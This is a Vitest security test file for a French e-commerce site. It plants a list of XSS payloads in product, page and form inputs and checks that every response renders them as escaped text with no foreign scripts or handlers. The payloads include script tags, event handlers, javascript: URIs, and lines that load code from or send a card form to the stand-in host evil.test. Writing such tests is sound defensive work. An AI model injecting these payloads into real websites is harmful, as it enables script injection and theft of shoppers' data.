import { createRequire } from "node:module"
import { createHash } from "node:crypto"
import { afterAll, beforeAll, describe, expect, test } from "vitest"
import type * as stored from "../../sandbox/storage/records.ts"
import { openVisitor } from "../shopper/visitor"
import { openWholeShop } from "../shopper/whole-shop"

const shop = openWholeShop()
afterAll(() => shop.close())
const load = createRequire(import.meta.url)
const { putRecord } = load("../../sandbox/storage/records.ts") as typeof stored

const payloads = [
  "<script>fetch('//evil.test')</script>",
  "<ScRiPt src=//evil.test/x.js></sCrIpT>",
  "<img src=x onerror=alert(1)>",
  "<svg onload=alert(1)>",
  "<svg><script>alert(1)</script></svg>",
  '<a href="javascript:alert(1)">lien</a>',
  '<a href="jav&#x61;script:alert(1)">lien</a>',
  '<a href=" data:text/html,<script>alert(1)</script>">lien</a>',
  "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
  "<form action=https://evil.test><input name=card><button>Payer</button></form>",
  "<style>*{background:url(//evil.test)}</style>",
  '<p style="background:url(//evil.test)">texte</p>',
  "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
  "<object data=//evil.test></object><embed src=//evil.test>",
  "<base href=//evil.test/>",
  "<meta http-equiv=refresh content='0;url=//evil.test'>",
  "<link rel=stylesheet href=//evil.test>",
  "<!--><script>alert(1)</script>-->",
  "</textarea></title></script><script>alert(1)</script>",
  "<scr<script>ipt>alert(1)</scr</script>ipt>",
  "<details open ontoggle=alert(1)>",
  "<video><source onerror=alert(1)></video>",
]
const everything = payloads.join("\n")

type Product = { id: string; slug: string; name: string; description: string; meta_description?: string }
type Content = { id: string; slug: string; type: string }

beforeAll(() => {
  const { database } = shop.sandbox.context
  const product = shop.records<Product>("products").find(({ slug }) => slug === "melange-canut")!
  putRecord(database, "products", { ...product, name: `Canut ${payloads[18]}`, description: `<p>Fruité</p>${everything}` })
  for (const page of shop.records<Content>("content")) {
    putRecord(database, "content", spoil(page), { key: `${page.type}/${page.slug}` })
  }
})

/** The same record with every text longer than a word made hostile; ids, slugs and types stay. */
function spoil<T>(record: T, key = ""): T {
  if (typeof record === "string")
    return (record.includes(" ") && !/^(id|slug|type|kind)$/.test(key) ? record + everything : record) as T
  if (Array.isArray(record)) return record.map((entry: unknown) => spoil(entry, key)) as T
  if (typeof record !== "object" || record === null) return record
  return Object.fromEntries(Object.entries(record).map(([name, value]) => [name, spoil(value as unknown, name)])) as T
}

/** What of a page the browser would run or follow that we did not write: an empty list, one hopes. */
function foreignParts(html: string, policy: string): string[] {
  const hashes = new Set([...policy.matchAll(/'sha256-([^']+)'/g)].map(([, hash]) => hash))
  const scripts = [...html.matchAll(/<script\b([^>]*)>([\s\S]*?)<\/script>/gi)]
  const strange = scripts.filter(([, attributes = "", content = ""]) => {
    if (/type="application\/(ld\+)?json"/.test(attributes)) return /<\/?script/i.test(content)
    return /src=/.test(attributes) || !hashes.has(createHash("sha256").update(content).digest("base64"))
  })
  const markup = html.replace(/<script\b[\s\S]*?<\/script>/gi, "")
  const tags = markup.match(/<(?:iframe|object|embed|base|style|math|video|mglyph)\b[^>]*>/gi) ?? []
  const bare = markup.replace(/="[^"]*"/g, "=")
  const handlers = bare.match(/<[a-z][^<>]*\s(?:on\w+|style)\s*=/gi) ?? []
  const addresses = markup.match(/\s(?:href|src|action|content)="\s*(?:javascript:|data:text|\/\/|https:\/\/evil)[^"]*"/gi) ?? []
  return [...strange.map(([whole]) => whole.slice(0, 200)), ...tags, ...handlers, ...addresses]
}

describe("S18 what editors and products say", { timeout: 90_000 }, () => {
  test.each(["/produits/melange-canut", "/boutique/melanges", "/pages/cgv", "/pages/a-propos", "/", "/panier"])(
    "S18 %s shows hostile texts as text, in page, page state and structured data",
    async (path) => {
      const visitor = openVisitor(shop)
      const answer = await visitor.get(path)
      expect(answer.status).toBe(200)
      expect(foreignParts(await answer.text(), answer.headers.get("Content-Security-Policy") ?? "")).toEqual([])
    },
  )

  test("S18 the payloads reached the pages", async () => {
    const product = await (await openVisitor(shop).get("/produits/melange-canut")).text()
    expect(product).toContain("Fruité")
    expect(product).toMatch(/Canut &lt;\/textarea&gt;|Canut \\u003c\/textarea/i)
    expect(product).toContain("application/ld+json")
    const page = await (await openVisitor(shop).get("/pages/cgv")).text()
    expect(page).toMatch(/evil\.test|\bPayer\b/)
  })

  test("S18 what shoppers type comes back as text", async () => {
    const answers = await Promise.all(
      payloads.flatMap((payload) => {
        const visitor = openVisitor(shop)
        return [
          visitor.get(`/recherche?q=${encodeURIComponent(payload)}`),
          visitor.post("/connexion", { email: payload, password: "x" }),
          visitor.post("/newsletter", { email: payload }),
          visitor.get(`/boutique?tri=${encodeURIComponent(payload)}&a.${encodeURIComponent(payload)}=x`),
        ]
      }),
    )
    for (const answer of answers) {
      expect(foreignParts(await answer.text(), answer.headers.get("Content-Security-Policy") ?? "")).toEqual([])
    }
  })
})
